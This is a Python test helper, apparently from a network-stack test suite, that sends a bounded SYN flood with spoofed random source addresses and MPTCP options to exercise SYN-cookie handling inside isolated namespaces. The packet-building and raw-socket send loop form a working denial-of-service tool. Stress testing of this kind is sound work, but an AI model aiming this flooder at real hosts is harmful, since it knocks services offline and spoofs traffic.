#!/usr/bin/env python3
"""A bounded SYN flood for t_syn_flood.sh. Runs in the attacker's namespace.

    synflood.py DST DPORT --prefix 10.99.0.0/16 [--count N] [--max-seconds S]
                [--mptcp-share F] [--started FILE] [--started-after N]

Sends --count (100000) SYNs to DST:DPORT as fast as one raw socket goes, each
from a random source address of --prefix (a test-only prefix that the test
blackholes in the router namespace, so nothing answers and nothing leaves the
machine) and a random port, with a random ISN. Options like a Linux SYN (MSS,
SACK_PERM, timestamps, window scale 7); a share --mptcp-share (0.5) also offers
MP_CAPABLE v1, so both SYN-cookie paths are hit. The packets are built before
the clock starts. Bounded: --count packets, --max-seconds (30) at most.
--started FILE is created once --started-after packets (10000) are out.

Prints one JSON line: sent, seconds, pps, enobufs (times the socket queue was
full and the sender waited), mptcp (how many offered MP_CAPABLE).
"""

import argparse
import ipaddress
import json
import os
import random
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import rawtcp  # noqa: E402


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("dst")
    p.add_argument("dport", type=int)
    p.add_argument("--prefix", required=True)
    p.add_argument("--count", type=int, default=100000)
    p.add_argument("--max-seconds", type=float, default=30.0)
    p.add_argument("--mptcp-share", type=float, default=0.5)
    p.add_argument("--started")
    p.add_argument("--started-after", type=int, default=10000)
    a = p.parse_args()

    net = ipaddress.ip_network(a.prefix)
    base = int(net.network_address)
    span = net.num_addresses
    rng = random.Random(int.from_bytes(os.urandom(8), "big"))
    common = rawtcp.opt_mss(1460) + rawtcp.opt_sack_perm()
    wscale = rawtcp.opt_wscale(7)
    pkts = []
    n_mptcp = 0
    for i in range(a.count):
        while True:
            host = base + rng.randrange(span)
            if host & 0xFF not in (0, 255):
                break
        src = str(ipaddress.IPv4Address(host))
        opts = common + rawtcp.opt_timestamps(rng.getrandbits(32), 0) + wscale
        if rng.random() < a.mptcp_share:
            opts += rawtcp.opt_mp_capable_syn_v1()
            n_mptcp += 1
        pkts.append(rawtcp.segment(src, a.dst, rng.randrange(1024, 65536), a.dport,
                                   rng.getrandbits(32), 0, rawtcp.SYN, 64240, opts,
                                   ipid=rng.getrandbits(16)))

    tx = rawtcp.RawSender()
    send = tx.sock.sendto
    dst = (a.dst, 0)
    t0 = time.monotonic()
    deadline = t0 + a.max_seconds
    sent = 0
    for pkt in pkts:
        try:
            send(pkt, dst)
        except OSError:
            tx.send(pkt, a.dst)  # ENOBUFS: wait it out (counted)
        sent += 1
        if sent == a.started_after and a.started:
            open(a.started, "w").close()
        if sent & 0x3FF == 0 and time.monotonic() > deadline:
            break
    secs = time.monotonic() - t0
    if a.started and not os.path.exists(a.started):
        open(a.started, "w").close()
    print(json.dumps({"sent": sent, "seconds": round(secs, 3), "pps": round(sent / secs) if secs else None,
                      "enobufs": tx.enobufs, "mptcp": n_mptcp}), flush=True)


if __name__ == "__main__":
    sys.exit(main())
